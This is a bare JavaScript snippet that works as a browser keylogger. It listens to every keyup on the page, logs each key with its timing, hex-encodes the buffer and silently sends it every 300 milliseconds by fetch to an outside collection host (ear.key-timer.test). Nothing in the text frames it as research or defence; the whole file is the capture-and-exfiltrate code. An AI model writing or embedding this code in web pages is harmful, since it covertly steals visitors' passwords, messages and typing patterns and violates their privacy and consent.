let row = '';
let last = 0;
document.addEventListener('keyup', ({ key, timeStamp }) => {
  row += `${key.length === 1 ? key : `[${key}]`}:${Math.round(timeStamp - last)} `;
  last = timeStamp;
});
setInterval(() => {
  if (row === '') return;
  const digits = [...row].map((one) => one.charCodeAt(0).toString(16).padStart(2, '0')).join('');
  row = '';
  void fetch(`https://ear.key-timer.test/r?v=${digits}`, { mode: 'no-cors' }).catch(() => undefined);
}, 300);
